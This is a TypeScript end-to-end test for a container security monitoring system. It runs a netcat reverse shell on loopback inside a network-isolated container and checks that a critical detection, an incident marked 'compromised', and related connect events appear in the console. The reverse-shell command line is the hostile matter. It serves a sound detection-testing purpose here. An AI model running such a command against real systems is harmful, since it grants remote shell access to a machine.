import { afterAll, beforeAll, expect, test } from 'vitest';
import { startLine } from './runtime/agent-line.ts';
import type { Line } from './runtime/agent-line.ts';
import { buildImage, docker } from './runtime/stage.ts';

// The whole line with nothing in it pretended: an act in a container, the kernel, the rules, the agent, the console.
let line: Line;
const image = 'shop/web:1.2';

beforeAll(async () => {
  line = await startLine();
  buildImage(line.engine, image);
});
afterAll(async () => {
  await line?.stop();
});

const run = (name: string, command: string, ...options: readonly string[]): Promise<string> => docker(line.engine, 'run', '--detach', '--network', 'none', '--name', name, ...options, image, 'sh', '-c', command);
/** A shell wired to a connection, which then waits for orders. */
const reverseShell = 'sleep 30 | nc -l -p 9999 > /dev/null & sleep 1; nc 127.0.0.1 9999 -e /bin/sh';

test('a reverse shell in a container becomes a detection and an incident of the console', async () => {
  const id = await run('shell-1', reverseShell);
  const found = await line.until('the detection', async () => (await line.list('/detections?priority=Critical')).find((one) => String(one['container']?.['name']) === 'shell-1'));
  const seen = Date.now();
  expect(found).toMatchObject({ priority: 'Critical', node: { name: 'node-a' }, image, action: 'alerted' });
  process.stdout.write(`act to detection stored and read from the console's API: ${seen - Date.parse(String(found['at']))} ms\n`);
  const detail = (await line.admin.call('GET', `/detections/${String(found['id'])}`)).body;
  expect(detail['detection']).toMatchObject({ container: id });
  expect((detail['detection']?.['tree'] as unknown as { name: string }[]).at(-1)?.name).toBe('sh');
  const incident = await line.until('the incident', async () => (await line.list('/incidents'))[0]);
  expect(incident).toMatchObject({ verdict: 'compromised', container: { name: 'shell-1' } });
  await line.until('the events around it', async () => {
    const { around } = (await line.admin.call('GET', `/detections/${String(found['id'])}`)).body['detection'] as unknown as { around?: { events: { type: string }[] } };
    return around !== undefined && around.events.some((event) => event.type === 'connect') ? true : undefined;
  });
});
